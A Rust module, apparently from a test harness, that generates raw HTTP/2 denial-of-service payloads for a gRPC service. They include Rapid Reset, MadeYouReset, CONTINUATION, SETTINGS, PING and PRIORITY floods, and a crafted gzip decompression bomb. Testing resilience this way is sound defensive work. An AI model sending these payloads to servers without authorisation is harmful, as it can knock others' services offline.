//! What an attacker sends on one connection after the other, without ever reading the responses.

use std::sync::LazyLock;

use super::frame::{self, call, header, headers_of_a_call};

/// Returns the bytes that are sent in round `round` on a connection, about calls of the method at `path`.
/// Streams have increasing odd numbers.
pub type Attack = fn(round: u32, path: &str) -> Vec<u8>;

/// CVE-2023-44487: a call that the client resets at once.
pub fn rapid_reset(round: u32, path: &str) -> Vec<u8> {
    let stream = 2 * round + 1;
    [
        call(path, stream, frame::END_STREAM),
        frame::bytes(frame::RST_STREAM, 0, stream, &frame::CANCEL.to_be_bytes()),
    ]
    .concat()
}

/// CVE-2025-8671, "MadeYouReset": a call followed by an error for which the server must reset the stream but
/// may keep the connection: a window that exceeds the maximum (RFC 9113, section 6.9.1).
pub fn local_reset(round: u32, path: &str) -> Vec<u8> {
    const WINDOW_MAX: u32 = 0x7fff_ffff;
    let stream = 2 * round + 1;
    [call(path, stream, 0), frame::bytes(frame::WINDOW_UPDATE, 0, stream, &WINDOW_MAX.to_be_bytes())].concat()
}

/// CVE-2024-27316 and similar ones: a header block that never ends.
pub fn endless_continuation(round: u32, path: &str) -> Vec<u8> {
    let field = header("x", &"y".repeat(100));
    if round == 0 {
        return frame::bytes(frame::HEADERS, 0, 1, &headers_of_a_call(path));
    }
    frame::bytes(frame::CONTINUATION, 0, 1, &field.repeat(100))
}

/// A complete header block that is far longer than the limit.
pub fn huge_headers(round: u32, path: &str) -> Vec<u8> {
    let field = header("x", &"y".repeat(100));
    let block = [headers_of_a_call(path), field.repeat(150)].concat();
    let stream = 2 * round + 1;
    let begin = frame::bytes(frame::HEADERS, frame::END_STREAM, stream, &block);
    let middle = frame::bytes(frame::CONTINUATION, 0, stream, &field.repeat(150));
    let end = frame::bytes(frame::CONTINUATION, frame::END_HEADERS, stream, &[]);
    [begin, middle, end].concat()
}

/// CVE-2019-9515: SETTINGS frames whose acknowledgements are never read.
pub fn settings_flood(_: u32, _: &str) -> Vec<u8> {
    frame::bytes(frame::SETTINGS, 0, 0, &[]).repeat(100)
}

/// CVE-2019-9512: PING frames whose acknowledgements are never read.
pub fn ping_flood(_: u32, _: &str) -> Vec<u8> {
    frame::bytes(frame::PING, 0, 0, &[7; 8]).repeat(100)
}

/// CVE-2019-9518: empty DATA frames.
pub fn empty_data_flood(round: u32, path: &str) -> Vec<u8> {
    let begin = if round == 0 { call(path, 1, 0) } else { Vec::new() };
    [begin, frame::bytes(frame::DATA, 0, 1, &[]).repeat(100)].concat()
}

/// CVE-2019-9513: priorities of streams that are never opened.
pub fn priority_flood(round: u32, _: &str) -> Vec<u8> {
    frame::bytes(frame::PRIORITY, 0, 2 * round + 1, &[0, 0, 0, 0, 16]).repeat(100)
}

/// Calls whose bodies are never sent.
pub fn endless_bodies(round: u32, path: &str) -> Vec<u8> {
    call(path, 2 * round + 1, 0)
}

/// Bytes that are not frames.
pub fn garbage(round: u32, _: &str) -> Vec<u8> {
    // A xorshift generator: the same bytes in every run.
    let mut state = u64::from(round) * 0x9e37_79b9 + 1;
    let mut next = || {
        state ^= state << 13;
        state ^= state >> 7;
        state ^= state << 17;
        state.to_le_bytes()
    };
    (0..64).flat_map(|_| next()).collect()
}

/// Returns a call whose message is marked as compressed with `encoding`, in DATA frames of the maximum size.
fn compressed(path: &str, stream: u32, encoding: &str, message: &[u8]) -> Vec<u8> {
    let headers = [headers_of_a_call(path), header("grpc-encoding", encoding)].concat();
    let length = u32::try_from(message.len()).unwrap().to_be_bytes();
    let body = [&[1][..], &length, message].concat();
    let mut bytes = frame::bytes(frame::HEADERS, frame::END_HEADERS, stream, &headers);
    for part in body.chunks(FRAME_BYTES_MAX) {
        bytes.extend(frame::bytes(frame::DATA, 0, stream, part));
    }
    bytes.extend(frame::bytes(frame::DATA, frame::END_STREAM, stream, &[]));
    bytes
}

/// Default of `SETTINGS_MAX_FRAME_SIZE` (RFC 9113, section 4.2).
const FRAME_BYTES_MAX: usize = 16_384;

/// Maximum size of a message that the service accepts.
const MESSAGE_BYTES_MAX: usize = 65_536;

static BOMB: LazyLock<Vec<u8>> = LazyLock::new(bomb);

/// Returns a gzip stream of the maximum message size that expands to 10 MiB of zeros (RFC 1951, section
/// 3.2.6: one literal, then the longest match at the shortest distance, again and again, in 13 bits each).
fn bomb() -> Vec<u8> {
    let mut bytes = vec![0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 255];
    let (mut bits, mut count) = (0_u64, 0);
    let mut put = |bytes: &mut Vec<u8>, value: u64, length: u32| {
        bits |= value << count;
        count += length;
        while count >= 8 {
            bytes.extend(bits.to_le_bytes().first());
            bits >>= 8;
            count -= 8;
        }
    };
    // Header of the last block with fixed Huffman codes; the literal 0; then length code 285 and distance
    // code 0. Huffman codes are written with their most significant bit first.
    put(&mut bytes, 0b011, 3);
    put(&mut bytes, 0b0000_1100, 8);
    while bytes.len() < MESSAGE_BYTES_MAX {
        put(&mut bytes, 0b0_0000_1010_0011, 13);
    }
    bytes
}

/// A gzip bomb: 64 KiB that would expand to 10 MiB, marked in turn with each of five encodings.
pub fn decompression_bombs(round: u32, path: &str) -> Vec<u8> {
    let encodings = ["gzip", "deflate", "zstd", "br", "identity"];
    let encoding =
        encodings.into_iter().cycle().nth(usize::try_from(round).unwrap() % encodings.len()).unwrap();
    compressed(path, 2 * round + 1, encoding, &BOMB)
}

/// A message whose prefix announces 4 GiB, followed by one byte.
pub fn announced_and_never_sent(round: u32, path: &str) -> Vec<u8> {
    let stream = 2 * round + 1;
    [call(path, stream, 0), frame::bytes(frame::DATA, 0, stream, &[0, 0xff, 0xff, 0xff, 0xff, 0x0a])].concat()
}
